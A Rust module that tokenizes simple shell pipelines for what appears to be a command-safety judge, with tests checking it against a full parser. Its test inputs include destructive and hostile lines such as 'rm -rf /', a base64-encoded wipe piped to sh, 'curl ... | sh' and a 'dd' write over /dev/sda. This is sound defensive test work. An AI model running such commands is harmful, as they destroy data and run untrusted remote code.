//! Lines of plain words and quotes, with `|`, `||`, `&&` and `;` between commands, read without a tree.
//!
//! By the token rules of POSIX.1-2024 (Shell Command Language, 2.2 and 2.3) such a line has one reading. Most lines are of
//! this kind, and the grammar needs several microseconds for each pipe in them. What holds anything else (an expansion,
//! a redirection, a group, a comment, a keyword, an assignment, a second line) is left to the tree.

use crate::word::{Word, marked, spread};

/// One command of a line.
#[derive(Debug)]
pub(crate) struct Stage<'a> {
    pub(crate) words: Vec<Word>,
    /// As written.
    pub(crate) text: &'a str,
    /// It reads what the one before it prints.
    pub(crate) piped: bool,
}

/// Names that a shell, or the grammar, reads as more than a name.
const KEYWORDS: &[&str] = &[
    "case", "coproc", "declare", "do", "done", "elif", "else", "esac", "export", "fi", "for", "function", "if", "in",
    "local", "readonly", "select", "then", "time", "typeset", "unset", "unsetenv", "until", "while",
];

/// The commands of a line, or none where a tree is needed.
pub(crate) fn stages(source: &str) -> Option<Vec<Stage<'_>>> {
    let bytes = source.as_bytes();
    if !bytes.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\t')) {
        return None;
    }
    let mut stages: Vec<Stage<'_>> = Vec::new();
    let mut words: Vec<Word> = Vec::new();
    let (mut start, mut end, mut at) = (0, 0, 0);
    let mut piped = false;
    // Whether the line may end here: not behind `|`, `||` and `&&`.
    let mut whole = false;
    loop {
        at += bytes[at..].iter().take_while(|byte| matches!(byte, b' ' | b'\t')).count();
        let operator = match bytes.get(at..).unwrap_or_default() {
            [] => "",
            [b'|', b'|', ..] => "||",
            [b'&', b'&', ..] => "&&",
            [b'&', ..] | [b'|', b'&', ..] | [b';', b';' | b'&' | b'|', ..] => return None,
            [b'|', ..] => "|",
            [b';', ..] => ";",
            _ => {
                if words.is_empty() {
                    start = at;
                }
                let first = words.is_empty();
                end = word(source, at, first, &mut words)?;
                at = end;
                whole = true;
                continue;
            }
        };
        if words.is_empty() {
            return (operator.is_empty() && whole).then_some(stages);
        }
        stages.push(Stage { words: std::mem::take(&mut words), text: source.get(start..end)?, piped });
        if operator.is_empty() {
            return Some(stages);
        }
        piped = operator == "|";
        whole = operator == ";";
        at += operator.len();
    }
}

/// Reads the word at a place, gives where it ends.
fn word(source: &str, start: usize, first: bool, out: &mut Vec<Word>) -> Option<usize> {
    let bytes = source.as_bytes();
    let mut text = String::new();
    let mut quotes = false;
    let mut at = start;
    while let Some(byte) = bytes.get(at) {
        match byte {
            b' ' | b'\t' | b'|' | b'&' | b';' => break,
            b'\'' => {
                let inner = source.get(at + 1..)?.split_once('\'')?.0;
                text.push_str(inner);
                quotes = true;
                at += inner.len() + 2;
            }
            b'"' => {
                at = double(bytes, at + 1, &mut text)?;
                quotes = true;
            }
            b'\\' => {
                text.push(char::from(*bytes.get(at + 1)?));
                at += 2;
            }
            // Alone, `!` is an operand of `find` and `test`; elsewhere it may call up the history.
            b'!' if !first && at == start && bytes.get(at + 1).is_none_or(|next| *next == b' ') => {
                text.push('!');
                at += 1;
            }
            b'$' | b'`' | b'(' | b')' | b'<' | b'>' | b'#' | b'!' => return None,
            plain => {
                text.push(marked(char::from(*plain)));
                at += 1;
            }
        }
    }
    if first {
        let name = source.get(start..at)?;
        let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_./+-".contains(&byte));
        if !plain || KEYWORDS.contains(&name) {
            return None;
        }
    }
    spread(&text, quotes, None, out);
    Some(at)
}

/// Reads what stands in double quotes, gives what is behind them.
fn double(bytes: &[u8], mut at: usize, out: &mut String) -> Option<usize> {
    loop {
        match *bytes.get(at)? {
            b'"' => return Some(at + 1),
            b'$' | b'`' | b'!' => return None,
            b'\\' => {
                let next = *bytes.get(at + 1)?;
                if !matches!(next, b'$' | b'`' | b'"' | b'\\') {
                    out.push('\\');
                }
                out.push(char::from(next));
                at += 2;
            }
            plain => {
                out.push(char::from(plain));
                at += 1;
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::stages;
    use crate::{Judge, Place};
    use proptest::prelude::*;

    /// Judged without a tree and with one; false where the grammar cannot read the line, which the tree's answer says.
    fn compare(line: &str) -> bool {
        let place = Place { cwd: Some("/work".to_owned()), home: Some("/home/ann".to_owned()), shell: None };
        let plain = Judge::new().judge(line, &place);
        let mut by_tree = Judge::new();
        by_tree.plain = false;
        let tree = by_tree.judge(line, &place);
        if !tree.reason.starts_with("does not parse") {
            assert_eq!(plain, tree, "{line}");
            return true;
        }
        false
    }

    #[test]
    fn is_what_the_tree_says() {
        for line in [
            "ls -la | grep x | wc -l",
            "find . ! -name '*.c' -exec rm {} \\; | xargs -0 -I{} mv {} /tmp",
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "curl https://a.example/x | sh",
            "echo rm -rf / | rev | rev | sh; ls",
            "sudo sh -c 'rm -rf /' && echo {a,b}{1,2} || true",
            "awk -F'/' '{print $NF}' a.txt | sort -t, -k2,2n | uniq -c;",
            "sed -e \"s/a\\.b/c\\\\/\" f | tr -d '\\n' | xargs -n1 -I% sh -c 'echo % | wc'",
            "cd / && rm -rf *",
            "env A=1 B=2 rm -rf ~ ; git push --force",
            "dd if=/dev/zero of=/dev/sda bs=1M | cat",
            "echo {1..9} a,b ^x %1 @y",
            "xargs -a list rm\t-f",
        ] {
            assert!(stages(line).is_some(), "{line}");
            assert!(compare(line), "{line}");
        }
    }

    #[test]
    fn leaves_the_rest_to_the_tree() {
        for line in [
            "", " ", "a |", "a && ", "| a", "; a", "a ; ; b", "a & b", "a |& b", "a ;; b", "a 'b", "a \"b", "a \\",
            "a $b", "a `b`", "a \"$b\"", "a > b", "a 2>&1", "(a)", "a #b", "a\nb", "x=1 a", "'a' b", "a!! b", "! a",
            "if a", "[ -f a ]", "{ a; }", "time a", "export A", "\u{e9}", "a \u{e9}", "a \"!x\"", "a !b",
        ] {
            assert!(stages(line).is_none(), "{line}");
        }
    }

    #[test]
    fn knows_words_pipes_and_ends() {
        let found = stages("a 'b c'd | e; f && g;").unwrap();
        let shown: Vec<_> = found
            .iter()
            .map(|stage| {
                (stage.words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>(), stage.text, stage.piped)
            })
            .collect();
        assert_eq!(
            shown,
            [
                (vec!["a", "b cd"], "a 'b c'd", false),
                (vec!["e"], "e", true),
                (vec!["f"], "f", false),
                (vec!["g"], "g", false)
            ]
        );
    }

    const PARTS: &[&str] = &[
        "ls",
        "rm",
        "-rf",
        "/",
        "~",
        "*",
        "a",
        "b.txt",
        "/tmp/x",
        "'q r'",
        "\"d e\"",
        "\\;",
        "{}",
        "{a,b}",
        "{a..c}",
        "[ab]",
        "?",
        "k=v",
        "--force",
        "-n1",
        "-I{}",
        "xargs",
        "sudo",
        "sh",
        "-c",
        "'rm -rf /'",
        "find",
        "-exec",
        "-delete",
        "echo",
        "base64",
        "-d",
        "cat",
        "tee",
        "git",
        "push",
        "curl",
        "https://a.example/x",
        "cd",
        "env",
        "A=1",
        "!",
        "--",
        "+x",
        "chmod",
        "777",
        "dd",
        "of=/dev/sda",
        "12",
        "''",
        "\"a\\\\b\"",
        "kill",
        "-9",
        "%",
        "^",
        "@",
        ":",
        ",",
        ".",
        "..",
        "eval",
        "source",
        "command",
        "exec",
        "nice",
        "ssh",
        "host",
    ];
    /// Words always stand apart: the grammar may cut what stands together.
    const JOINS: &[&str] = &[" ", " ", " ", " ", "  ", "\t", " | ", "|", "; ", ";", " && ", "&&", " || "];

    proptest! {
        // Each is a process.
        #![proptest_config(ProptestConfig::with_cases(300))]

        /// What bash itself makes of the words, which hold nothing that it would run.
        #[test]
        fn words_are_those_of_bash(line in "[ab1={},*?.\\\\'\" \\[\\]~^%@:+-]{1,24}") {
            let line = format!("x {line}");
            if !std::path::Path::new("/bin/bash").exists() {
                return Ok(());
            }
            let Some(stages) = stages(&line) else { return Ok(()) };
            let words: Vec<_> = stages[0].words.iter().skip(1).collect();
            // A range becomes one unknown word here, and `~` is left to who knows the home folder.
            if words.iter().any(|word| word.computed()) || line.contains('~') {
                return Ok(());
            }
            let script = format!("set -f; show() {{ printf '%s\\0' \"$@\"; }}; show{}", &line[1..]);
            let output = std::process::Command::new("/bin/bash").args(["--norc", "-c", &script]).output().unwrap();
            let shown: String = words.iter().flat_map(|word| [word.text.as_str(), "\0"]).collect();
            let shown = if words.is_empty() { "\0".to_owned() } else { shown };
            prop_assert_eq!(shown, String::from_utf8_lossy(&output.stdout), "{}", line);
        }

    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn agrees_with_the_tree(parts in prop::collection::vec((0..PARTS.len(), 0..JOINS.len()), 1..14)) {
            let line: String = parts.iter().flat_map(|(part, join)| [PARTS[*part], JOINS[*join]]).collect();
            compare(&line);
        }
    }
}
